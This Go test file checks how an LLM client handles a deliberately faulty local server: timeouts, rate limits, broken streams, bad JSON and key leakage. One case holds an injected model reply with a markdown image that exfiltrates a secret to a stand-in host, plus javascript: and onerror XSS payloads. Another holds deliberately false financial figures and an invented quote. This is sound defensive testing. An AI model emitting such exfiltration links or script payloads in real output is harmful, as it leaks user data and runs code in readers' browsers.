package llm

import (
	"bufio"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const hostileSource = "../../../shared/hostile"

// hostileServer builds and starts the independent faulty server, and returns its address.
func hostileServer(t *testing.T) string {
	t.Helper()
	if _, err := os.Stat(hostileSource); errors.Is(err, fs.ErrNotExist) {
		t.Skip("the source of the faulty server is not here")
	}
	program := filepath.Join(t.TempDir(), "hostile")
	build := exec.CommandContext(t.Context(), "go", "build", "-o", program, ".")
	build.Dir = hostileSource
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build the faulty server: %v\n%s", err, out)
	}
	server := exec.Command(program, "serve")
	out, err := server.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := server.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = server.Process.Kill()
		_ = server.Wait() // says that it was killed
	})
	address, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatalf("the faulty server named no address: %v", err)
	}
	return strings.TrimSpace(address)
}

// TestHostileServer: every way in which the independent faulty server answers a chat request ends in the right text
// or in an error that names the fault.
func TestHostileServer(t *testing.T) {
	address := hostileServer(t)
	const fell, half = "Capital expenditure fell 12% to RMB 24.6 billion [1].", "Capital expenditure fell 12% "
	tests := []struct {
		mode    string
		text    string
		code    string
		damaged bool
	}{
		{mode: "ok", text: fell},
		{mode: "slow-20", text: fell},
		{mode: "flaky-2", text: fell},
		{mode: "flaky-1", code: CodeOverloaded},
		{mode: "nodone", text: fell},
		{mode: "badjson", text: fell, damaged: true},
		{mode: "429-0", code: CodeRateLimited},
		{mode: "429-3600", code: CodeRateLimited},
		{mode: "500", code: CodeUpstream},
		{mode: "503", code: CodeOverloaded},
		{mode: "html200", code: CodeBadEndpoint},
		{mode: "hang", code: CodeTimeout},
		{mode: "stallmid", text: half, code: CodeTimeout},
		{mode: "cut", text: half, code: CodeCutStream},
		{mode: "errmid", text: half, code: CodeOverloaded},
		{mode: "exfil", text: "Fell 12% [1]. ![s](https://evil.invalid/c.png?q=secret) [x](javascript:alert(1)) <img src=x onerror=alert(1)> [r][v]\n\n[v]: https://evil.invalid/?h=1"},
		{mode: "badcite", text: `Fell 55% to RMB 999 billion [1][7][0][99999999999999999999]. "A quote nobody said" [1].`},
	}
	for _, tt := range tests {
		t.Run(tt.mode, func(t *testing.T) {
			c := newTestClient(t, Endpoint{BaseURL: address + "/m/" + tt.mode + "/v1", APIKey: key, Model: "hostile"})
			c.Limits.Idle = time.Second
			if tt.mode == "hang" {
				c.Limits.FirstToken = time.Second
			}
			got := collect(t.Context(), c, Options{})
			if got.text != tt.text || got.damaged != tt.damaged || got.code() != tt.code {
				t.Errorf("got %v, want text %q, damaged %v, error %q", got, tt.text, tt.damaged, tt.code)
			}
			if got.err != nil && strings.Contains(got.err.Error(), key) {
				t.Errorf("the key is in %q", got.err)
			}
		})
	}
}
